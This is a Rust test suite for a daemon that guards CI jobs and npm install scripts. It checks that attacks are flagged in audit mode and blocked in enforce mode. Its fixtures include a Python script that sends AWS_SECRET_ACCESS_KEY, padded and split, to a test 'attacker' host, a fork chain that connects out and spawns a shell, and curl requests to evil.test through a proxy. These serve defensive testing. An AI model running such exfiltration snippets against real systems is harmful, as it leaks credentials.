//! The guard in daemon mode, channel by channel, as `guard.rs`, `guard_names.rs` and
//! `secrets_streams.rs` prove it for `watcher run`: a packet socket, a signal to the daemon, a
//! local deputy's unix socket, a cgroup escape, a forward proxy asked for a target not allowed,
//! a server name not allowed on an allowed address, padded and split secrets, a 300-deep fork
//! chain. Audit mode flags and lets through; enforce mode blocks (the attacker records nothing)
//! and the job's own log carries the alert. One daemon per test, with an audit and an enforce
//! pipeline. Every destination is on loopback or inside a network namespace the test creates.
use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr},
    process::{Command, Output, Stdio},
    time::Duration,
};

use serde_json::Value;
use watcher_tests::{
    DnsServer, Listener, Netns, TempDir,
    lab::in_netns,
    netprobe_bin,
    proxy::Proxy,
    read_jsonl, root_or_skip,
    sinks::{IcmpSink, TestCgroup, UnixSink, cgroup_root},
    wait_until,
};

/// Subnets of Netns (distinct per test in this file, away from the other files' ones).
const SUBNET_CGROUP: u16 = 1201;
const SUBNET_PROXY: u16 = 1202;
const SUBNET_NAMES: u16 = 1203;
const SUBNET_SECRETS: u16 = 1204;
const SUBNET_DEPTH: u16 = 1205;

const MODES: [&str; 2] = ["audit", "enforce"];

/// One daemon of this file: the shared test daemon and the directory it runs in (dropped in
/// this order: the daemon stops before its directory goes).
struct Daemon {
    d: watcher_tests::daemon::Daemon,
    dir: TempDir,
}

/// One job's run: its processes' exit and output, and its log.
struct Job {
    /// The job as `watcher status` shows it once ended.
    status: Value,
    out: Output,
    events: Vec<Value>,
    text: String,
}

impl Job {
    fn alerts(&self, rule: &str) -> Vec<&Value> {
        self.events.iter().filter(|e| e["kind"] == "alert" && e["rule"] == rule).collect()
    }

    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.out.stdout).into_owned()
    }

    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.out.stderr).into_owned()
    }
}

impl Daemon {
    /// A daemon whose pipelines `acme/audit` and `acme/enforce` get `policy(mode)`.
    fn start(name: &str, var: &str, policy: impl Fn(&str) -> String) -> Daemon {
        let dir = TempDir::new(&format!("watcher-g3-{name}"));
        for mode in MODES {
            std::fs::write(dir.join(format!("{mode}.yaml")), policy(mode)).unwrap();
        }
        let config = dir.join("daemon.yaml");
        std::fs::write(
            &config,
            format!(
                "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\njob_end_grace: 300ms\n\
                 jobs:\n  id_env: [{var}]\n  pipeline_env: [WDT_REPO]\n\
                 pipelines:\n  - match: \"acme/audit\"\n    policy: audit.yaml\n\
                 \x20 - match: \"acme/enforce\"\n    policy: enforce.yaml\n"
            ),
        )
        .unwrap();
        let d = watcher_tests::daemon::Daemon::start(&config, &dir, var);
        Daemon { d, dir }
    }

    fn pid(&self) -> u32 {
        self.d.pid()
    }

    fn alive(&mut self) -> bool {
        self.d.alive()
    }

    fn log(&self) -> String {
        self.d.log()
    }

    /// Runs `sh -c script` as job `id` of pipeline `acme/MODE` (as npm runs a postinstall of
    /// evil-pkg when `install`), with `env` added; waits for the job's end and reads its log.
    fn job(&self, id: &str, mode: &str, script: &str, install: bool, env: &[(&str, &str)]) -> Job {
        let mut cmd = Command::new("sh");
        cmd.args(["-c", script]).env(&self.d.var, id).env("WDT_REPO", format!("acme/{mode}"));
        if install {
            cmd.env("npm_lifecycle_event", "postinstall")
                .env("npm_package_name", "evil-pkg")
                .env("npm_package_version", "6.6.6");
        }
        for (k, v) in env {
            cmd.env(k, v);
        }
        let out = cmd.stdin(Stdio::null()).output().unwrap();
        let job = self.d.ended(id);
        assert_eq!(job["mode"], mode, "{job:#}");
        let log = self.dir.join(job["log"].as_str().unwrap());
        Job { status: job, out, events: read_jsonl(&log), text: std::fs::read_to_string(&log).unwrap() }
    }
}

fn policy(mode: &str, egress: &str, rest: &str) -> String {
    format!("version: 1\npipeline: g3\nmode: {mode}\negress:\n  loopback: false\n{egress}dns:\n  resolvers: []\n{rest}")
}

/// A listener on the namespace side of `ns` (the attacker host), inside the namespace.
fn attacker(ns: &Netns) -> Listener {
    let addr = SocketAddr::new(IpAddr::V4(ns.ns_v4()), 0);
    in_netns(ns.name(), move || Listener::start(addr)).expect("attacker listener in the namespace")
}

fn np() -> String {
    netprobe_bin().display().to_string()
}

// ------------------------------------------------------------------------ packet socket

#[test]
fn a_packet_socket_from_a_daemon_jobs_install_script_is_killed_in_enforce_mode() {
    if !root_or_skip() {
        return;
    }
    let d = Daemon::start("packet", "WDT_G3_PACKET_ID", |m| policy(m, "  allow: []\n", ""));
    for mode in MODES {
        let j = d.job(mode, mode, &format!("{} packet-socket; echo rc=$?", np()), true, &[]);
        let ctx = format!("{mode}: {}\n{}\n{}", j.stderr(), j.text, d.log());
        let a = j.alerts("raw-socket");
        assert_eq!(a.len(), 1, "{ctx}");
        let socket = j.events.iter().find(|e| e["kind"] == "socket").expect(&ctx);
        assert_eq!(socket["family"], "packet", "{ctx}");
        assert_eq!(a[0]["package"], "npm:evil-pkg@6.6.6 (postinstall)", "{ctx}");
        if mode == "enforce" {
            assert_eq!(a[0]["action"], "kill", "{ctx}");
            assert!(j.stdout().contains("rc=137"), "the install script was not killed: {ctx}");
        } else {
            assert_eq!(a[0]["action"], "flag", "{ctx}");
            assert!(j.stdout().contains("rc=0"), "{ctx}");
        }
    }
}

// ------------------------------------------------------------------------ tamper

/// A signal from a job's process to the daemon is `tamper` (SIGWINCH: its default action is
/// to ignore it, so the daemon lives on whatever the verdict).
#[test]
fn a_signal_from_a_daemon_job_to_the_daemon_is_tamper() {
    if !root_or_skip() {
        return;
    }
    let mut d = Daemon::start("tamper", "WDT_G3_TAMPER_ID", |m| policy(m, "  allow: []\n", ""));
    let pid = d.pid();
    for mode in MODES {
        let j = d.job(mode, mode, &format!("{} signal {pid} 28 sleep 300; echo rc=$?", np()), true, &[]);
        let ctx = format!("{mode}: {}\n{}\n{}", j.stderr(), j.text, d.log());
        let t = j.alerts("tamper");
        assert_eq!(t.len(), 1, "{ctx}");
        assert_eq!(t[0]["severity"], "critical", "{ctx}");
        if mode == "enforce" {
            assert_eq!(t[0]["action"], "kill", "{ctx}");
            assert!(j.stdout().contains("rc=137"), "the sender was not killed: {ctx}");
        } else {
            assert_eq!(t[0]["action"], "flag", "{ctx}");
            assert!(j.stdout().contains("rc=0"), "{ctx}");
        }
        assert!(d.alive(), "{ctx}");
    }
}

// ------------------------------------------------------------------------ local deputy

/// A deputy socket the test makes (named in `egress.deputies`, as docker's is built in): an
/// install script connecting to it is flagged in audit mode, killed before it sends in enforce
/// mode; the job itself (not an install script) may use it.
#[test]
fn a_daemon_jobs_install_script_connecting_to_a_local_deputy_is_killed_before_it_sends() {
    if !root_or_skip() {
        return;
    }
    let sockdir = TempDir::new("watcher-g3-deputy-sock");
    let path = sockdir.join("dockerd.sock");
    let sink = UnixSink::at(&path).expect("a fresh socket path");
    let p = path.display().to_string();
    let d = Daemon::start("deputy", "WDT_G3_DEPUTY_ID", |m| {
        policy(m, &format!("  allow: []\n  deputies:\n    add: [{p}]\n"), "")
    });
    let script = format!("{} unix {p}; echo rc=$?", np());
    for mode in MODES {
        sink.clear();
        let j = d.job(mode, mode, &script, true, &[]);
        let ctx = format!("{mode}: {}\n{}\n{}", j.stderr(), j.text, d.log());
        let a = j.alerts("local-deputy");
        assert_eq!(a.len(), 1, "{ctx}");
        if mode == "enforce" {
            assert_eq!(a[0]["action"], "kill", "{ctx}");
            assert!(j.stdout().contains("rc=137"), "{ctx}");
            std::thread::sleep(Duration::from_millis(300));
            assert!(sink.received() == 0, "the deputy received data in enforce mode: {ctx}");
        } else {
            assert_eq!(a[0]["action"], "flag", "{ctx}");
            assert!(wait_until(Duration::from_secs(3), || sink.received() == 6), "{ctx}");
        }
    }
    // The job itself (not an install script) may use its daemon.
    let j = d.job("step", "enforce", &script, false, &[]);
    assert!(j.alerts("local-deputy").is_empty(), "{}", j.text);
    assert!(j.stdout().contains("rc=0"), "{}", j.stderr());
    assert!(sink.connections() >= 2);
}

// ------------------------------------------------------------------------ cgroup escape

/// A job's process that writes its pid into the root cgroup (or a sibling one) and then
/// connects to the attacker stays in its job: flagged in audit, denied in enforce.
#[test]
fn a_daemon_job_that_moves_itself_to_another_cgroup_stays_in_its_job() {
    if !root_or_skip() {
        return;
    }
    let ns = Netns::new(SUBNET_CGROUP).unwrap();
    let bad = attacker(&ns);
    let sibling = TestCgroup::new("g3-sibling");
    let d = Daemon::start("cgroup", "WDT_G3_CGROUP_ID", |m| policy(m, "  allow: []\n", ""));
    for (n, target) in [cgroup_root(), sibling.path().to_path_buf()].iter().enumerate() {
        for mode in MODES {
            let before = bad.connections();
            let script = format!("{} cgroup-move {} tcp {}", np(), target.display(), bad.addr());
            let j = d.job(&format!("{mode}-{n}"), mode, &script, false, &[]);
            let ctx = format!("{mode} after a move to {}: {}\n{}\n{}", target.display(), j.stderr(), j.text, d.log());
            let e = j.alerts("egress-denied");
            assert_eq!(e.len(), 1, "{ctx}");
            if mode == "enforce" {
                assert_eq!(e[0]["action"], "deny", "{ctx}");
                assert!(j.stderr().contains("EPERM"), "{ctx}");
                assert_eq!(bad.connections(), before, "the attacker got a connection: {ctx}");
            } else {
                assert_eq!(e[0]["action"], "flag", "{ctx}");
                assert!(wait_until(Duration::from_secs(2), || bad.connections() == before + 1), "{ctx}");
            }
        }
    }
}

// ------------------------------------------------------------------------ forward proxy

/// `CONNECT evil.test:PORT` through a proxy named in `egress.proxies`: flagged and tunnelled in
/// audit mode; in enforce mode dropped in the kernel (the proxy never hears of it). An allowed
/// target passes in both.
#[test]
fn a_daemon_jobs_request_through_a_forward_proxy_is_judged_by_its_target() {
    if !root_or_skip() {
        return;
    }
    let ns = Netns::new(SUBNET_PROXY).unwrap();
    let (bad, good) = (attacker(&ns), attacker(&ns));
    let ip = IpAddr::V4(ns.ns_v4());
    let proxy = Proxy::start(vec![("good.test".into(), ip), ("evil.test".into(), ip)]);
    let (gp, paddr) = (good.addr().port(), proxy.addr);
    let d = Daemon::start("proxy", "WDT_G3_PROXY_ID", |m| {
        policy(m, &format!("  allow:\n    - host: good.test\n      ports: [{gp}]\n  proxies: [\"{paddr}\"]\n"), "")
    });
    let curl = |host: &str, port: u16| {
        format!("curl -sS -m 3 -p -x http://{paddr} http://{host}:{port}/ >/dev/null 2>&1; echo rc=$?")
    };
    let bp = bad.addr().port();
    for mode in MODES {
        let before = (bad.connections(), proxy.upstreams().len());
        let j = d.job(mode, mode, &curl("evil.test", bp), false, &[]);
        let alerts = j.alerts("egress-denied");
        let ctx = format!("{mode}: {}\n{alerts:#?}\n{}\n{}", j.stderr(), j.text, d.log());
        assert_eq!(alerts.len(), 1, "{ctx}");
        assert!(alerts[0]["message"].as_str().unwrap().contains(&format!("evil.test:{bp}")), "{ctx}");
        let send = j.events.iter().find(|e| e["kind"] == "send" && e["target"].is_object()).expect(&ctx);
        assert_eq!(send["target"]["host"], "evil.test", "{ctx}");
        if mode == "enforce" {
            assert_eq!(alerts[0]["action"], "deny", "{ctx}");
            assert_eq!(send["target"]["dropped"], true, "{ctx}");
            assert_eq!(proxy.upstreams().len(), before.1, "the proxy got the request: {ctx}");
            assert_eq!(bad.connections(), before.0, "{ctx}");
        } else {
            assert_eq!(alerts[0]["action"], "flag", "{ctx}");
            assert_eq!(bad.connections(), before.0 + 1, "{ctx}");
        }
        let before = good.connections();
        let j = d.job(&format!("{mode}-good"), mode, &curl("good.test", gp), false, &[]);
        assert!(j.alerts("egress-denied").is_empty(), "{mode}: {}", j.text);
        // (The listener answers nothing: curl times out once its request went through.)
        assert_eq!(good.connections(), before + 1, "{mode}: {}", j.text);
    }
}

// ------------------------------------------------------------------------ names

/// An address allowed because an answer for good.test gave it: a TLS ClientHello or an HTTP
/// request to it naming evil.test is `egress-denied` (dropped in enforce: not a byte reaches
/// the listener); good.test passes.
#[test]
fn a_daemon_jobs_server_name_or_host_not_allowed_on_an_allowed_address_is_denied() {
    if !root_or_skip() {
        return;
    }
    let ns = Netns::new(SUBNET_NAMES).unwrap();
    let cdn = attacker(&ns);
    let ip = ns.ns_v4();
    let pid = std::process::id();
    let dns_ip = IpAddr::V4(Ipv4Addr::new(127, 54, (pid % 200) as u8 + 20, (pid / 200 % 200) as u8 + 20));
    let dns = DnsServer::start(dns_ip, vec![("good.test".into(), vec![IpAddr::V4(ip)])]).unwrap();
    let port = cdn.addr().port();
    let dnsa = dns.addr();
    let d = Daemon::start("names", "WDT_G3_NAMES_ID", |m| {
        format!(
            "version: 1\npipeline: g3\nmode: {m}\negress:\n  loopback: false\n  allow:\n    - host: good.test\n      ports: [{port}]\ndns:\n  resolvers: [{dnsa}]\n"
        )
    });
    let lookup = format!("{} dns-sendto {dnsa} good.test A >/dev/null", np());
    let tls = |name: &str| {
        format!(
            "{lookup}; echo | timeout 4 openssl s_client -connect {ip}:{port} -servername {name} >/dev/null 2>&1; true"
        )
    };
    let http =
        |name: &str| format!("{lookup}; curl -sS -m 3 -H 'Host: {name}' http://{ip}:{port}/ >/dev/null 2>&1; true");
    for (what, script, how) in [("tls", tls("evil.test"), "tls-sni"), ("http", http("evil.test"), "http-host")] {
        for mode in MODES {
            let before = cdn.bytes();
            let j = d.job(&format!("{what}-{mode}"), mode, &script, false, &[]);
            let alerts = j.alerts("egress-denied");
            let ctx = format!("{what}, {mode}: {}\n{alerts:#?}\n{}\n{}", j.stderr(), j.text, d.log());
            assert_eq!(alerts.len(), 1, "{ctx}");
            assert!(alerts[0]["message"].as_str().unwrap().contains(&format!("evil.test:{port}")), "{ctx}");
            let send = j.events.iter().find(|e| e["kind"] == "send" && e["target"].is_object()).expect(&ctx);
            assert_eq!(send["target"]["how"], how, "{ctx}");
            if mode == "enforce" {
                assert_eq!(alerts[0]["action"], "deny", "{ctx}");
                assert_eq!(cdn.bytes(), before, "a byte reached the listener: {ctx}");
            } else {
                assert_eq!(alerts[0]["action"], "flag", "{ctx}");
                assert!(cdn.bytes() > before, "{ctx}");
            }
        }
    }
    for (what, script) in [("tls", tls("good.test")), ("http", http("good.test"))] {
        let before = cdn.bytes();
        let j = d.job(&format!("{what}-good"), "enforce", &script, false, &[]);
        assert!(j.alerts("egress-denied").is_empty(), "{what}: {}", j.text);
        assert!(cdn.bytes() > before, "{what}: the allowed name gets through");
    }
}

// ------------------------------------------------------------------------ secrets

/// Python: the job's value after 700 bytes of padding in one write, then split across two
/// writes, each to its own attacker port.
const SENDER: &str = r#"
import os, socket, sys
host, p1, p2 = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
v = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
def tcp(port, *pieces):
    s = socket.create_connection((host, port), timeout=3)
    for p in pieces:
        s.sendall(p)
    s.close()
tcp(p1, b"POST /u HTTP/1.1\r\n\r\n" + b"p" * 700 + b"&k=" + v + b"&end")
tcp(p2, b"x=" + v[:len(v) // 2], v[len(v) // 2:] + b"\n")
print("SENT", flush=True)
"#;

/// The job's own protected value, padded and split, sent by an install script to an allowed
/// host: a critical `secret-exfil` in the job's log for each (both modes), and the value in no
/// file the daemon writes.
#[test]
fn a_daemon_jobs_padded_and_split_secrets_are_found() {
    if !root_or_skip() {
        return;
    }
    let ns = Netns::new(SUBNET_SECRETS).unwrap();
    let (l1, l2) = (attacker(&ns), attacker(&ns));
    let host = ns.ns_v4().to_string();
    let value = "Qw3Er5Ty7Ui9Op1As2Df4Gh6Jk8Lz0Xc";
    let h = host.clone();
    let d = Daemon::start("secrets", "WDT_G3_SECRETS_ID", move |m| {
        policy(m, &format!("  allow:\n    - cidr: {h}/32\n"), "secrets:\n  env: [\"AWS_*\"]\n")
    });
    let sender = d.dir.join("send.py");
    std::fs::write(&sender, SENDER).unwrap();
    let script = format!("/usr/bin/python3 {} {host} {} {}", sender.display(), l1.addr().port(), l2.addr().port());
    for mode in MODES {
        let j = d.job(mode, mode, &script, true, &[("AWS_SECRET_ACCESS_KEY", value)]);
        let sec = j.alerts("secret-exfil");
        let ctx = format!("{mode}: {}\n{sec:#?}\n{}", j.stderr(), d.log());
        assert!(j.stdout().contains("SENT"), "{ctx}");
        for (i, l) in [&l1, &l2].iter().enumerate() {
            let a: Vec<&&Value> = sec
                .iter()
                .filter(|a| a["message"].as_str().unwrap().contains(&format!("{host}:{}/", l.addr().port())))
                .collect();
            assert_eq!(a.len(), 1, "case {} not flagged once: {ctx}", i + 1);
            assert_eq!(a[0]["severity"], "critical", "{ctx}");
            assert_eq!(a[0]["variable"], "AWS_SECRET_ACCESS_KEY", "{ctx}");
            assert_eq!(a[0]["package"], "npm:evil-pkg@6.6.6 (postinstall)", "{ctx}");
        }
        let sends: Vec<&Value> = j.events.iter().filter(|e| e["kind"] == "send" && e["secrets"].is_array()).collect();
        let at = |port: u16| {
            sends
                .iter()
                .find(|e| e["dport"] == port)
                .and_then(|e| e["offset"].as_u64())
                .unwrap_or_else(|| panic!("{ctx}"))
        };
        assert_eq!(at(l1.addr().port()), 20 + 700 + 3, "{ctx}");
        assert_eq!(at(l2.addr().port()), 2, "{ctx}");
        assert!(!j.text.contains(value), "the value is in the job's log");
    }
    assert!(!d.log().contains(value), "the value is in the daemon's output");
    for e in std::fs::read_dir(d.dir.join("logs")).unwrap().flatten() {
        let t = std::fs::read_to_string(e.path()).unwrap_or_default();
        assert!(!t.contains(value), "the value is in {}", e.path().display());
    }
}

// ------------------------------------------------------------------------ depth

/// Python: fork a chain DEPTH deep; the last process connects to the attacker, sends a line,
/// then execs a shell.
const CHAIN: &str = r#"
import os, socket, sys
depth, host, port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
for level in range(depth):
    pid = os.fork()
    if pid:
        _, st = os.waitpid(pid, 0)
        os._exit(os.waitstatus_to_exitcode(st) if level else 0)
try:
    s = socket.create_connection((host, port), timeout=3)
    s.sendall(b"deep hello\n")
    s.close()
    print("LEAF-CONNECTED", flush=True)
except OSError as e:
    print("LEAF-CONNECT-FAILED", e, flush=True)
os.execv("/bin/sh", ["sh", "-c", "echo LEAF-SHELL-RAN"])
"#;

/// A process 300 forks below a daemon job's install script is attributed to it: flagged in
/// audit; in enforce its connect is denied and its shell killed, each kill an alert in the
/// job's log.
#[test]
fn a_process_300_forks_below_a_daemon_jobs_install_script_is_attributed_and_its_kill_reported() {
    if !root_or_skip() {
        return;
    }
    let ns = Netns::new(SUBNET_DEPTH).unwrap();
    let bad = attacker(&ns);
    let d = Daemon::start("depth", "WDT_G3_DEPTH_ID", |m| {
        policy(m, "  allow: []\n", "exec:\n  install_scripts:\n    shells: deny\n")
    });
    let chain = d.dir.join("chain.py");
    std::fs::write(&chain, CHAIN).unwrap();
    let script = format!("/usr/bin/python3 {} 300 {} {}", chain.display(), bad.addr().ip(), bad.addr().port());
    let pkg = "npm:evil-pkg@6.6.6 (postinstall)";
    let a = d.job("audit", "audit", &script, true, &[]);
    let ctx = format!("audit: {}\n{}", a.stdout(), d.log());
    assert!(a.stdout().contains("LEAF-CONNECTED") && a.stdout().contains("LEAF-SHELL-RAN"), "{ctx}");
    assert_eq!(bad.connections(), 1, "{ctx}");
    let eg = a.alerts("egress-denied");
    assert_eq!((eg.len(), &eg[0]["action"], &eg[0]["package"]), (1, &Value::from("flag"), &Value::from(pkg)), "{ctx}");
    let sh = a.alerts("shell-from-install-script");
    assert_eq!((sh.len(), &sh[0]["action"], &sh[0]["package"]), (1, &Value::from("flag"), &Value::from(pkg)), "{ctx}");
    assert!(a.events.iter().filter(|e| e["kind"] == "fork").count() >= 300, "{ctx}");

    let e = d.job("enforce", "enforce", &script, true, &[]);
    let ctx = format!("enforce: {}\n{}\n{}", e.stdout(), e.stderr(), d.log());
    assert!(e.stdout().contains("LEAF-CONNECT-FAILED"), "{ctx}");
    assert!(!e.stdout().contains("LEAF-SHELL-RAN"), "the shell ran: {ctx}");
    assert_eq!(bad.connections(), 1, "the attacker got a connection in enforce mode: {ctx}");
    let eg = e.alerts("egress-denied");
    assert_eq!((eg.len(), &eg[0]["action"], &eg[0]["package"]), (1, &Value::from("deny"), &Value::from(pkg)), "{ctx}");
    let sh = e.alerts("shell-from-install-script");
    assert_eq!((sh.len(), &sh[0]["action"], &sh[0]["package"]), (1, &Value::from("kill"), &Value::from(pkg)), "{ctx}");
    let killed = e.events.iter().filter(|x| x["kind"] == "exec" && (x["killed"] == true || x["held"] == true)).count();
    let kills = e.events.iter().filter(|x| x["kind"] == "alert" && x["action"] == "kill").count();
    assert!(killed >= 1 && kills >= killed, "{killed} killed or held execs, {kills} kill alerts: {ctx}");
    // The job is not clean: the daemon counts its alerts.
    assert!(e.status["alerts"].as_u64().unwrap() >= 2, "{:#}", e.status);
}

// ------------------------------------------------------------------------ packet backstop

/// ICMP from a raw socket of the job itself (not an install script, so the socket may be
/// opened): the packet backstop judges its packets, flagged in audit, dropped in enforce.
/// The destination is 127.0.0.2, which this policy never allows.
#[test]
fn icmp_from_a_daemon_jobs_raw_socket_is_judged_by_the_packet_backstop() {
    if !root_or_skip() {
        return;
    }
    let d = Daemon::start("icmp", "WDT_G3_ICMP_ID", |m| policy(m, "  allow: []\n", ""));
    for mode in MODES {
        let sink = IcmpSink::new();
        let marker = format!("g3-icmp-{}-{mode}", std::process::id());
        let j = d.job(mode, mode, &format!("{} icmp 127.0.0.2 {marker}", np()), false, &[]);
        let arrived = sink.saw(marker.as_bytes(), Duration::from_millis(700));
        let ctx = format!("{mode}: {}\n{}\n{}", j.stderr(), j.text, d.log());
        assert!(j.alerts("raw-socket").is_empty(), "{ctx}");
        let e = j.alerts("egress-denied");
        assert_eq!(e.len(), 1, "{ctx}");
        let c = j.events.iter().find(|e| e["kind"] == "connect").expect(&ctx);
        assert_eq!((c["op"].as_str(), c["proto"].as_str()), (Some("packet"), Some("icmp")), "{ctx}");
        if mode == "enforce" {
            assert_eq!(e[0]["action"], "deny", "{ctx}");
            assert!(!arrived, "the packet backstop let ICMP to a denied host out: {ctx}");
        } else {
            assert_eq!(e[0]["action"], "flag", "{ctx}");
            assert!(arrived, "{ctx}");
        }
    }
}
